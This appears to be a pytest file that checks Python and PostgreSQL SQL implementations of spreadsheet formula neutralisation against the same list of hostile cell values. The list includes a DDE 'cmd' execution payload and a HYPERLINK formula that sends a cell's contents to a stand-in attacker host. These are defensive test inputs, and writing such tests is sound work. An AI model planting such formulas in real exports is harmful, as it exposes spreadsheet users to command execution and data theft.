"""Formula neutralisation is written three times: in Python (`audience.spreadsheets.cell_safe`,
`formula_like`; `imports.xlsx.text_cell`), in SQL for the PostgreSQL CSV (`sql_cell_safe`) and as
sheet XML built by SQL for the PostgreSQL .xlsx (`imports.exports.postgres`). This holds the
three together on the same hostile inputs, cell by cell."""

from __future__ import annotations

import pytest
from django.db import connection

from audience.spreadsheets import cell_safe, cell_unquote, formula_like
from imports import xlsx
from imports.exports import generic, postgres

HOSTILE = [
    "",
    "plain",
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-5",
    "@SUM(A1)",
    "\t=x",
    "\r=x",
    "'=quoted",
    "''+x",
    "'''@y",
    "'abc",
    "'",
    "''",
    " =leading space",
    '=HYPERLINK("http://evil.example/?"&B2,"open")',
    'a & <b> "c" > d',
    "line\nbreak",
    "cr\rhere",
    "ctrl\x01\x08\x0b\x0c\x1f chars",
    "\ufffe\uffff nonchars",
    "\x02quote\x01delim",
    "%s %% \\ backslash",
    "Ünïcødé 名前 😀",
    "=",
    "-",
    "@",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_python_definitions_agree(text):
    quoted = cell_safe(text) != text
    assert quoted == formula_like(text)
    assert generic.csv_cell(text) == cell_safe(text)
    assert cell_unquote(cell_safe(text)) == text
    if text:
        assert (f' s="{xlsx.TEXT_STYLE}"' in xlsx.text_cell("A1", text)) == quoted


@pytest.mark.skipif(connection.vendor != "postgresql", reason="the SQL definitions are PostgreSQL's")
@pytest.mark.django_db
def test_the_sql_definitions_write_what_python_writes():
    csv_sql = postgres._csv_sql("text", "v.t")
    xml_sql = postgres._xlsx_sql("text", "v.t", "A")
    with connection.cursor() as cursor:
        for text in HOSTILE:
            cursor.execute(
                f"SELECT {csv_sql}, {xml_sql} FROM (SELECT %s::text AS t) v, (SELECT '1' AS n) s", [text]
            )
            csv_cell, xml_cell = cursor.fetchone()
            # The CSV: '' is COPY's unquoted empty field (NULL here), as csv.writer writes ''.
            assert (csv_cell or "") == generic.csv_cell(text), text
            # The .xlsx: the SQL's row goes through `_xml_legal` as COPY's output does.
            xml = b"".join(postgres._xml_legal([(xml_cell or "").encode()])).decode()
            assert xml == xlsx.cell("A1", text), text
